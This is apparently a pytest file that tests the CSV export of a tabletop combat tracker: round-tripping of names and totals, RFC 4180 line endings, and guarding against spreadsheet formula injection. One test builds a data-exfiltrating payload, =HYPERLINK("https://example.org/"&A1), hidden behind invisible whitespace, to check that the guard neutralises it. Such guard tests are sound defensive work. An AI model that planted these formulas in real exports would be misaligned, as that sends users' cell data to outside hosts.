"""CSV that leaves the program: read again by the csv module, every text and number is what it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings, strategies as st

from rulesets.fight.session import Session
from rulesets.output.exporting.as_csv import BOM, combatants_csv, events_csv
from rulesets.output.exporting.as_json import exported
from rulesets.output.summary import Summary, summarise
from rulesets.reading.loader import load
from rulesets.table import commands as cmd
from rulesets.words.spreadsheet_cells import FORMULA, cell, typed
from tests.rulesets.output.exporting.fights import STORIES, nasty, told

SUMMARIES = [*STORIES, None]
COUNTED = (
    "dealt", "taken", "healed", "soaked", "worse", "turns", "reactions", "effects", "suffered", "overrides",
    "defeats",
)  # fmt: skip


def fight(path: Path | None) -> Summary:
    return nasty() if path is None else told(path)[0]


def name(path: Path | None) -> str:
    return path.stem if path is not None else "nasty"


def rows(data: bytes) -> list[dict[str, Any]]:
    """A file as a spreadsheet reads it: bare cells are numbers, quoted ones texts."""
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    reader = csv.reader(io.StringIO(text[1:], newline=""), quoting=csv.QUOTE_NONNUMERIC, strict=True)
    head, *body = reader
    assert len(set(head)) == len(head)
    assert all(len(row) == len(head) for row in body)
    return [dict(zip(map(str, head), row, strict=True)) for row in body]


@pytest.mark.parametrize("path", SUMMARIES, ids=name)
def test_one_row_per_combatant_with_the_totals_of_the_accounts(path: Path | None) -> None:
    summary = fight(path)
    read = {typed(row["id"]): row for row in rows(combatants_csv(summary))}
    assert set(read) == set(summary.accounts.combatants)
    for ident, account in summary.accounts.combatants.items():
        row = read[ident]
        assert typed(row["name"]) == summary.accounts.names[ident]
        assert {key: row[f"totals.{key}"] for key in COUNTED} == {
            key: getattr(account, key) for key in COUNTED
        }
        spent = {
            k.removeprefix("actions."): n for k, n in row.items() if k.startswith("actions.") and n != ""
        }
        assert spent == account.actions
        assert row["totals.seconds"] == (pytest.approx(sum(account.seconds)) if account.seconds else "")
    for who in exported(summary).combatants:
        for stat in who.stats:
            assert read[who.id][f"stat.{stat.id}"] == ("" if stat.value is None else stat.value)
        if who.points is not None:
            assert read[who.id]["points.now"] == who.points.now


@pytest.mark.parametrize("path", SUMMARIES, ids=name)
def test_one_row_per_event_in_their_order(path: Path | None) -> None:
    summary = fight(path)
    read = rows(events_csv(summary))
    assert [row["number"] for row in read] == list(range(1, len(summary.happened) + 1))
    for row, step in zip(read, summary.happened, strict=True):
        assert typed(row["title"]) == step.title
        assert typed(row["lines"]) == "\n".join(step.lines)
        assert (row["round"], row["overridden"]) == (step.round, step.overridden)


def test_lines_end_as_the_standard_says() -> None:
    """RFC 4180: CRLF after every record, the last one included."""
    summary = told(STORIES[0])[0]
    data = combatants_csv(summary)
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == len(summary.accounts.combatants) + 1


@pytest.mark.slow
@given(st.text() | st.sampled_from(FORMULA).flatmap(lambda first: st.text().map(lambda rest: first + rest)))
@example("=1+1")
@example("'=1+1")
@example("''")
@example('a,b"c\r\nd')
def test_no_text_begins_like_a_formula_and_every_one_comes_back(text: str) -> None:
    guarded = cell(text)
    assert not guarded.startswith(FORMULA)
    assert typed(guarded) == text


UNSEEN = (
    " ",
    "\xa0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\x00",
    "\x85",
    "\u2028",
    "\xad",
    " \xa0\t ",
)


@pytest.mark.parametrize("before", UNSEEN, ids=ascii)
@pytest.mark.parametrize("first", [sign for sign in FORMULA if not sign.isspace()], ids=ascii)
def test_what_is_not_seen_hides_no_formula(before: str, first: str) -> None:
    """A spreadsheet trims a no-break space and runs what follows: =HYPERLINK sends cells to others."""
    text = f'{before}{first}HYPERLINK("https://example.org/"&A1)'
    assert cell(text).startswith("'")
    assert typed(cell(text)) == text


@pytest.mark.parametrize("text", ["\xa0Ioan", " a = b", "Ioan = Deel", "\u200b"])
def test_what_begins_no_formula_is_left_alone(text: str) -> None:
    """Only what stands first counts."""
    assert cell(text) == text


@pytest.mark.slow
@settings(max_examples=30)
@given(st.lists(st.text(st.characters(codec="utf-8"), min_size=1, max_size=20), min_size=1, max_size=4))
@example(["a,b", 'c"d', "e\nf\r\ng\rh", "=HYPERLINK(1)"])
@example(["\x00", " x ", "\u2028", "’"])
def test_names_of_any_kind_come_back(names: list[str]) -> None:
    session = Session(load("srd35"))
    for number, called in enumerate(names):
        session.dispatch(cmd.Add(combatant={"id": f"x{number}", "name": called, "notes": called}))
    summary = summarise(session.rules, session.log, "x")
    known = {who.id: who for who in summary.standings}
    read = rows(combatants_csv(summary))
    assert len(read) == len(known)
    for row in read:
        assert typed(row["name"]) == known[row["id"]].name
        assert typed(row["notes"]) == known[row["id"]].notes
